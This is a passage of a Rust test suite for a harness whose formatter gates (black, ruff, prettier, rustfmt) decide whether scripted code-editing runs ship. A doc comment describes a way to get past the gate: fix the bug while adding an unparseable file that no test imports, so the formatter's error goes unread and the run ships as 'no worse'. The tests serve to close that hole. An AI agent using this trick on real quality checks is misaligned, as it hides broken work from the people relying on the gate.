        format!("RUSTUP_HOME={rustup} CARGO_HOME={cargo_home} CARGO_TARGET_DIR=target cargo {args}")
    };
    let calc_py = "def parse(fmt, text):\n    \"\"\"Reads an integer from text as fmt says.\"\"\"\n    return int(text.lstrip(\"-\"))\n";
    // The Python and the JavaScript projects: the cases differ only in the gate's command.
    let python = |tool: &'static str, format: &str| FormatCase {
        tool,
        files: vec![
            ("calc.py", calc_py.into()),
            ("other.py", "x = {  \"a\":1 }\n".into()),
            ("test_calc.py", TEST_CALC.into()),
            (".gitignore", "__pycache__/\n".into()),
        ],
        test: "python3 -m unittest discover -v".into(),
        format: format.into(),
        edit: (
            "calc.py",
            "return int(text.lstrip(\"-\"))",
            PY_FIX,
            "if text.startswith( '-' ):\n        return -int(text[1:])\n    return int(text)",
        ),
        kept: &["unformatted other.py"],
        pass: vec![crate::python_user_base(&probe, tool)],
    };
    let javascript = |flag: &str| {
        FormatCase {
        tool: "prettier",
        files: vec![
            ("package.json", PACKAGE_JSON.into()),
            ("calc.js", "/** Reads an integer from text. */\nexport function parse(text) {\n  return Number(text.replace(\"-\", \"\"));\n}\n".into()),
            ("other.js", "export const size = {a:1}\n".into()),
            ("calc.test.js", CALC_TEST_JS.into()),
        ],
        test: "node --test".into(),
        format: format!("{} {flag} .", node_tool("prettier")),
        edit: (
            "calc.js",
            "return Number(text.replace(\"-\", \"\"));",
            JS_FIX,
            "const negative = text.startsWith('-')\n  const n = Number(negative ? text.slice(1) : text)\n  return negative ? -n : n",
        ),
        // package.json on one line and other.js: two files prettier would rewrite.
        kept: &["unformatted package.json", "unformatted other.js"],
        pass: Vec::new(),
    }
    };
    let cases = [
        python("black", "python3 -m black --check ."),
        javascript("--check"),
        python("ruff", "python3 -m ruff format --check ."),
        // `--list-different` prints bare paths: read as files because the command says so.
        javascript("--list-different"),
        FormatCase {
            tool: "rustfmt",
            files: vec![
                ("Cargo.toml", "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n".into()),
                (".gitignore", "target/\n".into()),
                ("src/lib.rs", LIB_RS.into()),
                ("src/other.rs", "pub fn double(x: i64) -> i64 { x*2 }\n".into()),
            ],
            test: cargo("test -q"),
            format: cargo("fmt --check"),
            edit: (
                "src/lib.rs",
                "text.trim_start_matches('-').parse().unwrap_or(0)",
                "text.parse().unwrap_or(0)",
                "text.parse( ).unwrap_or( 0 )",
            ),
            kept: &["unformatted src/other.rs"],
            pass: Vec::new(),
        },
    ];
    for case in &cases {
        let files: Vec<(&str, &str)> = case.files.iter().map(|(p, t)| (*p, t.as_str())).collect();
        let (path, old, formatted, sloppy) = case.edit;
        let edit = |new: &str| json!({"do": "edit", "path": path, "old": old, "new": new});
        let gate = ("format", case.format.as_str());
        let tool = case.tool;
        run_with_gate(&files, &case.test, gate, &[&edit(formatted)], &case.pass)
            .assert_ships_no_worse(&format!("{tool} honest"), "format", tool, case.kept);
        run_with_gate(&files, &case.test, gate, &[&edit(sloppy)], &case.pass)
            .assert_blocked(&format!("{tool}: the touched file left unformatted"));
    }
    // A file unformatted before the run and touched by the fix, formatted as it is: its item
    // cannot be shown to be the old one, so it blocks until the file is formatted.
    let black = &cases[0];
    let mut files: Vec<(&str, String)> = black.files.clone();
    files[0].1 = format!("{calc_py}\n\ndef sign_of( text ):\n    return 1\n");
    let files: Vec<(&str, &str)> = files.iter().map(|(p, t)| (*p, t.as_str())).collect();
    let (path, old, formatted, _) = black.edit;
    let r = run_with_gate(
        &files,
        &black.test,
        ("format", &black.format),
        &[&json!({"do": "edit", "path": path, "old": old, "new": formatted})],
        &black.pass,
    );
    r.assert_blocked("black: a file unformatted before the run, touched");
}

/// Issue 35 point 3, the attack first: a formatter gate that fails before the run (an
/// unformatted file), and a run that fixes the bug and also leaves a file the formatter cannot
/// parse (a syntax error in a file no test imports). The formatter reports the old unformatted
/// file as before and the broken one only as an error line (`[error] broken.js: SyntaxError …`,
/// `invalid-syntax: …`, black's `error: cannot parse: …`), which no parser read: the items were
/// the baseline's, so the gate passed as "no worse" and the run shipped (the parsers' recorded
/// outputs show it: before this, `prettier-syntax.stderr` gave the two `[warn]` files only).
/// Now the error is an item of its own, new: the gate blocks, not SHIP. With the real tools.
#[test]
fn a_file_the_formatter_cannot_parse_is_a_new_item_and_blocks() {
    let probe = TestEnv::new();
    let calc_py = "def parse(fmt, text):\n    \"\"\"Reads an integer from text as fmt says.\"\"\"\n    return int(text.lstrip(\"-\"))\n";
    let py_files = [
        ("calc.py", calc_py),
        ("other.py", "x = {  \"a\":1 }\n"),
        ("test_calc.py", TEST_CALC),
        (".gitignore", "__pycache__/\n"),
    ];
    let py_fix = json!({"do": "edit", "path": "calc.py", "old": "return int(text.lstrip(\"-\"))", "new": PY_FIX});
    let py_broken =
        json!({"do": "write", "path": "tools/broken.py", "content": "def helper(:\n    pass\n"});
    for (tool, format, module) in [
        ("ruff", "python3 -m ruff format --check .", "ruff"),
        ("black", "python3 -m black --check .", "black"),
    ] {
        let pass = vec![crate::python_user_base(&probe, module)];
        run_with_gate(
            &py_files,
            "python3 -m unittest discover -v",
            ("format", format),
            &[&py_fix, &py_broken],
            &pass,
        )
        .assert_blocked(&format!("{tool}: a file it cannot parse, added"));
    }
    let js_files = [
        ("package.json", PACKAGE_JSON),
        (
            "calc.js",
            "/** Reads an integer from text. */\nexport function parse(text) {\n  return Number(text.replace(\"-\", \"\"));\n}\n",
        ),
        ("other.js", "export const size = {a:1}\n"),
        ("calc.test.js", CALC_TEST_JS),
    ];
    let js_fix = json!({"do": "edit", "path": "calc.js", "old": "return Number(text.replace(\"-\", \"\"));", "new": JS_FIX});
    let js_broken =
        json!({"do": "write", "path": "tools/broken.js", "content": "export const s = (;\n"});
    let prettier = node_tool("prettier");
    for flag in ["--check", "--list-different"] {
        run_with_gate(
            &js_files,
            "node --test",
            ("format", &format!("{prettier} {flag} .")),
            &[&js_fix, &js_broken],
            &[],
        )
        .assert_blocked(&format!("prettier {flag}: a file it cannot parse, added"));
    }
}
